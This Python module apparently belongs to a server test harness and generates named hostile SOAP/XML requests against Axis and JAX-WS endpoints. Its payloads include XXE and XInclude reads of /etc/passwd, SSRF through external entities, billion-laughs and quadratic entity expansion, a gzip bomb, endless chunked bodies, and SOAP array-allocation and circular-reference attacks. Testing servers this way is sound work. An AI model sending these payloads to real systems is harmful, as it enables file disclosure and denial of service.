"""Envelopes that are meant to harm, by name."""

from __future__ import annotations

import gzip
from collections.abc import Callable, Iterator

from wire import Request, whole

SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
ENCODING = "http://schemas.xmlsoap.org/soap/encoding/"
SOAP_12 = "http://www.w3.org/2003/05/soap-envelope"
ENCODING_12 = "http://www.w3.org/2003/05/soap-encoding"
XSD = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
MIB = 1024 * 1024
# Past a sixteenth of Tomcat's heap, where a request is no longer read.
ENDLESS = 20 * MIB


def envelope(body: str, before: str = "", header: str = "") -> bytes:
    """A SOAP 1.1 envelope, with something before it perhaps."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}'
        f'<s:Envelope xmlns:s="{SOAP}" xmlns:e="{ENCODING}" xmlns:xsd="{XSD}" xmlns:xsi="{XSI}">'
        f"{header}<s:Body>{body}</s:Body></s:Envelope>"
    ).encode()


def envelope_12(body: str) -> bytes:
    """The same body in SOAP 1.2."""
    return (
        envelope(body)
        .replace(SOAP.encode(), SOAP_12.encode())
        .replace(ENCODING.encode(), ENCODING_12.encode())
    )


def hello(text: str, attributes: str = "") -> str:
    return f'<h:hello xmlns:h="urn:rackbench:hello"><text{attributes}>{text}</text></h:hello>'


def matrix(content: str, attributes: str = "", beside: str = "") -> str:
    return (
        f'<m:getMatrix xmlns:m="urn:rackbench:matrix"><matrix{attributes}>{content}</matrix>'
        f"</m:getMatrix>{beside}"
    )


def sort(content: str, attributes: str = "", beside: str = "") -> str:
    return (
        f'<m:sort xmlns:m="urn:rackbench:sort"><values{attributes}>{content}</values>'
        f"</m:sort>{beside}"
    )


def echo(text: str, attributes: str = "") -> str:
    return f'<m:echo xmlns:m="urn:rackbench:mtom"><payload{attributes}>{text}</payload></m:echo>'


def _laughs() -> str:
    lines = ['<!ENTITY l0 "ha ha ha ha ha ha ha ha ha ha">']
    lines += [f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 12)]
    return "".join(lines)


def doctypes(address: str) -> dict[str, tuple[str, str]]:
    """What stands before the envelope, and the text inside it."""
    return {
        "doctype": ("<!DOCTYPE e>", "plain"),
        "entity of a file": ('<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        "entity of a page": (
            f'<!DOCTYPE e [<!ENTITY x SYSTEM "http://{address}:8080/axis/byte">]>',
            "&x;",
        ),
        "entity of a jar": (
            f'<!DOCTYPE e [<!ENTITY x SYSTEM "jar:http://{address}:8080/axis/byte!/a">]>',
            "&x;",
        ),
        "parameter entity": (
            '<!DOCTYPE e [<!ENTITY % x SYSTEM "file:///etc/hostname"> %x;]>',
            "plain",
        ),
        "external subset": (f'<!DOCTYPE e SYSTEM "http://{address}:8080/axis/byte">', "plain"),
        "billion laughs": (f"<!DOCTYPE e [{_laughs()}]>", "&l11;"),
        "quadratic blow-up": (
            f'<!DOCTYPE e [<!ENTITY x "{"x" * 100_000}">]>',
            "&x;" * 20_000,
        ),
    }


INCLUDED = (
    '<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>'
)
INSTRUCTION = '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>'


def _shapes() -> dict[str, tuple[str, str]]:
    """What stands in the place of the text, and the attributes of its element."""
    deep = 100_000
    return {
        "deep nesting": ("<a>" * deep + "</a>" * deep, ""),
        "10 000 attributes": ("", "".join(f' a{k}="{k}"' for k in range(10_000))),
        "9 000 namespaces": ("", "".join(f' xmlns:n{k}="urn:{k}"' for k in range(9_000))),
        "attribute of 4 MiB": ("", f' a="{"x" * 4 * MIB}"'),
        "name of 4 MiB": (f"<{'n' * 4 * MIB}/>", ""),
        "text of 4 MiB": ("x" * 4 * MIB, ""),
        "250 000 elements": ("<a/>" * 250_000, ""),
        "unknown entity": ("&nothing;", ""),
        "never ended": ("<a><b><c>" * 1000, ""),
        "control characters": ("\x01\x02", ""),
        "800 000 references to characters": ("&#65;" * 800_000, ""),
        "comments": ("<!-- x -->" * 100_000, ""),
        "sections": ("<![CDATA[x]]>" * 80_000, ""),
    }


def _arrays() -> dict[str, str]:
    """SOAP encoding's own arrays and references."""
    array = ' xsi:type="e:Array" e:arrayType="xsd:{}"'
    row = '<r xsi:type="e:Array" e:arrayType="xsd:float[2000000000]"/>'
    loop = '<multiRef id="a" href="#b"/><multiRef id="b" href="#a"/>'
    itself = (
        '<multiRef id="a" xsi:type="e:Array" e:arrayType="xsd:anyType[1]"><i href="#a"/></multiRef>'
    )
    long_row = (
        '<multiRef id="r" xsi:type="e:Array" e:arrayType="xsd:float[20000]">'
        + "<i>1</i>" * 20_000
        + "</multiRef>"
    )
    return {
        "array of 2 000 000 000 promised": sort("<i>1</i>", array.format("int[2000000000]")),
        "arrays promised 5 000 times": matrix(row * 5_000, array.format("float[][5000]")),
        "negative array": sort("<i>1</i>", array.format("int[-5]")),
        "array of no number": sort("<i>1</i>", array.format("int[many]")),
        "position far away": sort('<i e:position="[2000000000]">1</i>', array.format("int[1]")),
        "offset far away": sort("<i>1</i>", array.format("int[1]") + ' e:offset="[2000000000]"'),
        "array of many dimensions": sort("<i>1</i>", array.format("int[40000,40000]")),
        "dimensions overflowing": sort("<i>1</i>", array.format("int[65536,65536,2]")),
        "brackets by the thousand": sort("<i>1</i>", array.format("int" + "[]" * 5000 + "[1]")),
        "reference to itself": matrix("", ' href="#a"', '<multiRef id="a" href="#a"/>'),
        "references in a circle": matrix("", ' href="#a"', loop),
        "array that holds itself": matrix("", ' href="#a"', itself),
        "reference to nothing": matrix("", ' href="#nothing"'),
        "reference to a file": matrix("", ' href="file:///etc/passwd"'),
        "reference to a page": matrix("", ' href="http://127.0.0.1:8080/axis/byte"'),
        "one row 20 000 times": matrix(
            '<i href="#r"/>' * 20_000, array.format("float[][20000]"), long_row
        ),
        "a bean": sort(
            "<a/>", ' xmlns:j="http://xml.apache.org/axis/java" xsi:type="j:java.io.File"'
        ),
        "a map": sort(
            "<item><key>a</key><value>b</value></item>" * 1000,
            ' xmlns:x="http://xml.apache.org/xml-soap" xsi:type="x:Map"',
        ),
        "a document": sort(
            "<a/>", ' xmlns:x="http://xml.apache.org/xml-soap" xsi:type="x:Document"'
        ),
        "a serialised object": sort("rO0ABXNyAA==", ' xsi:type="xsd:base64Binary"'),
        "a number of a million digits": sort(f"<i>{'9' * MIB}</i>", array.format("int[1]")),
        "a float that once hung Java": matrix(
            '<r xsi:type="e:Array" e:arrayType="xsd:float[1]"><i>2.2250738585072012e-308</i></r>',
            array.format("float[][1]"),
        ),
    }


def _references_12() -> str:
    """References as SOAP 1.2 writes them, to a row within the body: it allows nothing beside."""
    array = ' xsi:type="e:Array" e:itemType="xsd:{}" e:arraySize="{}"'
    long_row = f'<i id="r"{array.format("float", 20_000)}>{"<i>1</i>" * 20_000}</i>'
    rows = array.format("anyType", 20_001)
    return matrix(long_row + '<i ref="#r"/>' * 20_000, rows)


def _endless(path: str, start: bytes) -> Request:
    def pieces() -> Iterator[bytes]:
        yield start
        for _ in range(ENDLESS // 65_536):
            yield b"x" * 65_536

    return Request(path, pieces())


def _bomb() -> bytes:
    return gzip.compress(envelope(hello("x" * ENDLESS)), 9)


def _sizes(path: str, content: Callable[[str], str]) -> dict[str, Request]:
    start = envelope(content("")).partition(b"</")[0]
    plain = envelope(content("x"))
    return {
        "length of 2 GiB announced": Request(path, [plain], length=2 * 1024 * MIB - 1),
        "chunks without end": _endless(path, start),
        "gzip bomb": whole(path, _bomb(), headers={"Content-Encoding": "gzip"}),
        "length and chunks": Request(path, [plain], headers={"Content-Length": str(len(plain))}),
        "header of 1 MiB": whole(path, plain, headers={"X": "x" * MIB}),
        "5 000 headers": whole(path, plain, headers={f"X-{k}": "x" for k in range(5_000)}),
        "unknown charset": whole(path, plain, content_type="text/xml; charset=klingon"),
        "UTF-7": whole(path, plain, content_type="text/xml; charset=utf-7"),
        "UTF-16 announced": whole(path, plain, content_type="text/xml; charset=utf-16"),
        "nothing": whole(path, b""),
        "a byte": whole(path, b"<"),
        "zeros": whole(path, b"\0" * MIB),
        "no content type": whole(path, plain, content_type=""),
        "a foreign content type": whole(path, plain, content_type="application/x-java"),
    }


def axis(address: str) -> dict[str, Request]:
    """Against the services in Axis."""
    found = _sizes("/axis/services/Hello", hello)
    found |= {
        name: whole("/axis/services/Hello", envelope(hello(text), before))
        for name, (before, text) in doctypes(address).items()
    }
    found |= {
        name: whole("/axis/services/Hello", envelope(hello(text, attributes)))
        for name, (text, attributes) in _shapes().items()
    }
    found |= {
        name: whole(
            "/axis/services/Matrix" if "getMatrix" in body else "/axis/services/Sort",
            envelope(body),
        )
        for name, body in _arrays().items()
    }
    found["one row 20 000 times in SOAP 1.2"] = whole(
        "/axis/services/Matrix", envelope_12(_references_12())
    )
    # The first length is negative as an int, and would make room for the second one.
    found["array of 2 147 483 648 promised in a header"] = whole(
        "/axis/services/Sort",
        envelope(
            sort("<i>1</i>", ' xsi:type="e:Array" e:arrayType="xsd:int[2000000000]"'),
            "",
            '<s:Header><a e:arrayType="xsd:int[2147483648]"/></s:Header>',
        ),
    )
    found["XInclude"] = whole("/axis/services/Hello", envelope(hello(INCLUDED)))
    found["instruction"] = whole("/axis/services/Hello", envelope(hello("x"), INSTRUCTION))
    found["many bodies"] = whole("/axis/services/Hello", envelope(hello("x") * 5_000))
    found["a header that must be understood"] = whole(
        "/axis/services/Hello",
        envelope(hello("x"), "", '<s:Header><a s:mustUnderstand="1"/></s:Header>'),
    )
    return found


def jaxws(address: str) -> dict[str, Request]:
    """Against JAX-WS, where a request is one envelope."""
    path = "/mtom/inline"
    found = _sizes(path, echo)
    found |= {
        name: whole(path, envelope(echo(text), before))
        for name, (before, text) in doctypes(address).items()
    }
    found |= {
        name: whole(path, envelope(echo(text, attributes)))
        for name, (text, attributes) in _shapes().items()
    }
    found["XInclude"] = whole(path, envelope(echo(INCLUDED)))
    return found
